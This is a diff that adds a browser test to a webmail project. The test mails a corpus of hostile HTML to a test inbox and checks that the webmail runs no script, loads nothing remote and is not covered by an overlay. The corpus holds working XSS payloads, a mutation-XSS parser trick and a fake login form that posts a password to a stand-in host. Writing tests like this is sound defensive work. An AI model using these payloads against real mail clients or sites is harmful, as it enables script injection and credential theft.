@@ -7,8 +7,10 @@ scripts must never load. Screenshots land in tests/browser/artifacts/.
 
 from __future__ import annotations
 
+import imaplib
 import re
 import threading
+import time
 from collections.abc import Iterator
 from email.message import EmailMessage
 
@@ -196,3 +198,98 @@ def test_the_webmail_fits_a_phone_screen(browser, live_server: str, stack, artif
         assert folders["y"] + folders["height"] <= listing["y"] + 1, "the folders are not above the mail"
     finally:
         context.close()
+
+
+# What a hostile HTML mail tries, each a way to run script, reach out, or cover the page around
+# the message. Every one that ran would set `owned` on the webmail's window (or change its title).
+REMOTE = "https://remote.test"
+XSS_CORPUS = [
+    "<p>Hello, the visible text of this message.</p>",
+    f'<img src="{REMOTE}/tracker.png" alt="tracker">',
+    "<script>top.owned = 'script'; top.document.title = 'owned'</script>",
+    "<img src=x onerror=\"top.owned = 'onerror'\">",
+    "<body onload=\"top.owned = 'onload'\"><p>text</p>",
+    "<a id=js href=\"javascript:top.owned = 'javascript-url'\">a javascript: link</a>",
+    "<a href=\"data:text/html,<script>top.owned='data-url'</script>\">a data: link</a>",
+    "<iframe src=\"data:text/html,<script>top.owned='iframe'</script>\"></iframe>",
+    f'<object data="{REMOTE}/object.swf"></object><embed src="{REMOTE}/embed.swf">',
+    "<svg onload=\"top.owned = 'svg-onload'\"><script>top.owned = 'svg-script'</script></svg>",
+    f'<div style="background:url({REMOTE}/inline-style.png)">styled</div>',
+    "<div style=\"width: expression(top.owned='css-expression')\">ie css</div>",
+    f"<style>@import url({REMOTE}/import.css); body {{ background: url({REMOTE}/body.png) }}</style>",
+    f'<link rel=stylesheet href="{REMOTE}/linked.css">',
+    f'<meta http-equiv="refresh" content="0; url={REMOTE}/refresh">',
+    f'<base href="{REMOTE}/"><img src="relative.png" alt="relative">',
+    f'<form action="{REMOTE}/steal" method=post><input name=password value=secret><button>Log in again</button></form>',
+    f'<video poster="{REMOTE}/poster.png"></video><audio src="{REMOTE}/sound.mp3" autoplay></audio>',
+    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">overlay</div>',
+    # Last: a parser trick that swallows what follows it into a style element.
+    "<math><mtext><table><mglyph><style><img src=x onerror=\"top.owned='mutation'\">",
+]
+
+
+def test_a_corpus_of_hostile_html_runs_nothing_loads_nothing_and_covers_nothing(
+    page: Page, live_server: str, stack, artifacts
+) -> None:
+    requests: list[tuple[str, str]] = []
+
+    def record(route) -> None:
+        request = route.request
+        if request.url.startswith(live_server):
+            route.continue_()
+        else:
+            requests.append((request.url, request.resource_type))
+            route.abort()
+
+    page.route("**/*", record)
+    hostile = EmailMessage()
+    hostile["From"], hostile["To"], hostile["Subject"] = (
+        "dora@journey.test",
+        "eli@journey.test",
+        "Hostile corpus",
+    )
+    hostile.set_content("The plain part.")
+    hostile.add_alternative("<html><body>" + "\n".join(XSS_CORPUS) + "</body></html>", subtype="html")
+    # Straight into the inbox (the spam filter would rightly file it as junk on the way).
+    imap = imaplib.IMAP4("127.0.0.1", stack.ports["imap"], timeout=DEFAULT_TIMEOUT)
+    try:
+        imap.login("eli@journey.test", PASSWORD)
+        status, _ = imap.append("INBOX", "", imaplib.Time2Internaldate(time.time()), hostile.as_bytes())
+        assert status == "OK"
+    finally:
+        imap.logout()
+
+    page.goto("/login")
+    page.get_by_label("Email address").fill("eli@journey.test")
+    page.get_by_label("Password").fill(PASSWORD)
+    page.get_by_role("button", name="Log in").click()
+    page.get_by_role("row").filter(has_text="Hostile corpus").get_by_role("link").click()
+    frame = page.frame_locator("iframe.body.html")
+    expect(frame.locator("body")).to_contain_text("Hello, the visible text of this message.")
+    # The links a user might click run nothing either (kept as text, or opening elsewhere).
+    for words in ("a javascript: link", "a data: link"):
+        link = frame.get_by_text(words)
+        if link.count():
+            link.click(no_wait_after=True)
+    page.wait_for_timeout(500)
+    page.screenshot(path=artifacts / "webmail-hostile-html.png", full_page=True)
+    assert page.evaluate("window.owned") is None
+    assert page.title() != "owned"
+    assert requests == [], "something left before the user allowed it"
+    # The page around the message is whole: its own buttons are on top where they are drawn.
+    reply = page.get_by_role("link", name="Reply", exact=True)
+    box = reply.bounding_box()
+    on_top = page.evaluate(
+        "([x, y]) => document.elementFromPoint(x, y).textContent",
+        [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
+    )
+    assert on_top == "Reply"
+    expect(page.get_by_role("heading", name="Hostile corpus", level=1)).to_be_visible()
+
+    # Remote images asked for: images only, and still no script, no style sheet, no form post.
+    page.get_by_role("link", name="Show them").click()
+    expect(page.frame_locator("iframe.body.html").locator("body")).to_contain_text("Hello")
+    page.wait_for_timeout(500)
+    assert {kind for _url, kind in requests} <= {"image"}, requests
+    assert any("tracker.png" in url for url, _kind in requests)
+    assert page.evaluate("window.owned") is None
